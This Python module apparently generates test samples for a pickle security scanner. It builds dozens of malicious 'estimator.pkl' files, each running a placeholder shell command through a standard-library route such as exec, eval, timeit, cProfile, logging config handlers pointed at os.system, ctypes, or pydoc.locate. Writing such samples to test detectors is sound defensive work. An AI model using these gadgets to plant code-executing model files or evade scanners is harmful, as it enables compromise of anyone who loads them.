"""Pickles that run Python source by a function of the standard library."""

from collections.abc import Iterator

from .assemble import Build, Call, New, Ref, method, planted, written
from .sample import CODE, COMMAND, MARKER, Sample

__all__ = ["samples"]

WEIGHTS = {"w": [1.5, 2.5], "classes": ["cat", "dog"]}
IMPORTED = f"__import__('os').system('{COMMAND}')"
LOGGING = {
    "version": 1,
    "handlers": {"console": {"()": "os.system", "command": COMMAND}},
    "root": {"handlers": ["console"]},
}
INI = f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n\
[handler_h]\nclass=__import__('os').system\nargs=('{COMMAND}',)\n"


def _evaluated() -> Iterator[tuple[str, bytes]]:
    yield "builtins.exec", written(Call("builtins.exec", CODE), 4)
    yield "__builtin__.eval", written(planted(Call("__builtin__.eval", IMPORTED), WEIGHTS), 0)
    yield "exec of compile", written(Call("builtins.exec", Call("builtins.compile", CODE, "m", "exec")), 4)
    yield "timeit.timeit", written(Call("timeit.timeit", "pass", CODE, Ref("time.perf_counter"), 1), 4)
    yield "timeit.main", written(Call("timeit.main", ["-n1", "-r1", CODE]), 4)
    yield "cProfile.run", written(Call("cProfile.run", CODE), 4)
    yield "profile.Profile.run", written(method(Call("profile.Profile"), "run", CODE), 4)
    yield "cProfile.runctx", written(Call("cProfile.runctx", CODE, {}, {}), 5)
    yield "bdb.Bdb.run", written(Call(Ref("bdb", "Bdb.run"), Call("bdb.Bdb"), CODE), 4)
    yield "trace.Trace.run", written(method(Call("trace.Trace", False, False), "run", CODE), 4)
    yield "doctest.debug_script", written(Call("doctest.debug_script", CODE, True, {}), 4)
    yield "code.InteractiveInterpreter", written(method(Call("code.InteractiveInterpreter"), "runsource", CODE), 4)
    yield "code.InteractiveConsole.push", written(method(Call("code.InteractiveConsole"), "push", CODE), 4)
    yield "runpy._run_code", written(Call("runpy._run_code", Call("builtins.compile", CODE, "m", "exec"), {}), 4)
    yield (
        "dataclasses._create_fn",
        written(Call(Call("dataclasses._create_fn", "f", ["a=" + IMPORTED], ["return a"])), 4),
    )
    yield "typing.ForwardRef", written(Call("typing._eval_type", Call("typing.ForwardRef", IMPORTED), {}, {}), 4)
    hinted = Build(Call("types.SimpleNamespace"), {"__annotations__": {"a": IMPORTED}})
    yield "typing.get_type_hints", written(Call("typing.get_type_hints", hinted), 4)
    yield "logging.config.dictConfig", written(Call("logging.config.dictConfig", LOGGING), 4)
    yield "logging.config.fileConfig", written(Call("logging.config.fileConfig", Call("io.StringIO", INI)), 4)
    run = Call(Call("operator.attrgetter", "pythonapi.PyRun_SimpleString"), Call("importlib.import_module", "ctypes"))
    yield "ctypes.pythonapi", written(Call(run, CODE.encode()), 4)
    sub = Call("_xxsubinterpreters.create")
    yield "_xxsubinterpreters", written(Call("_xxsubinterpreters.run_string", sub, CODE), 4)
    yield "idlelib.run.Executive", written(
        Call(Ref("idlelib.run", "Executive.runcode"),
             Build(New("idlelib.run.Executive"), {"locals": {}, "rpchandler": None}),
             Call("builtins.compile", CODE, "m", "exec")), 4,
    )  # fmt: skip
    yield (
        "idlelib.calltip",
        written(Call(Ref("idlelib.calltip", "Calltip.fetch_tip"), New("idlelib.calltip.Calltip"), IMPORTED), 4),
    )
    yield "idlelib.calltip.get_entity", written(Call("idlelib.calltip.get_entity", IMPORTED), 4)
    yield "lib2to3.pgen2.pgen.ParserGenerator", written(
        Call(Ref("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
             New("lib2to3.pgen2.pgen.ParserGenerator"),
             Build(Call("types.SimpleNamespace"), {"labels": [], "keywords": {}, "tokens": {}}),
             f"'' or {IMPORTED}"), 4,
    )  # fmt: skip
    yield (
        "eval of bytes that become text",
        written(
            Call("builtins.eval", Call("builtins.str", Call("builtins.bytes", list(IMPORTED.encode())), "ascii")), 4
        ),
    )
    yield "pydoc.locate", written(Call(Call("pydoc.locate", "os.system"), COMMAND), 4)
    yield (
        "xmlrpc.server.resolve_dotted_attribute",
        written(
            Call(
                Call("xmlrpc.server.resolve_dotted_attribute", Call("importlib.import_module", "os"), "system"), COMMAND
            ),
            4,
        ),
    )
    yield (
        "codeop",
        written(
            Call("builtins.exec", Call("codeop.compile_command", f"import os; os.mknod('{MARKER}')", "m", "exec")), 4
        ),
    )


def samples() -> Iterator[Sample]:
    for name, data in _evaluated():
        yield Sample("pickle: code by the standard library", name, {"estimator.pkl": data}, proof="pickle")
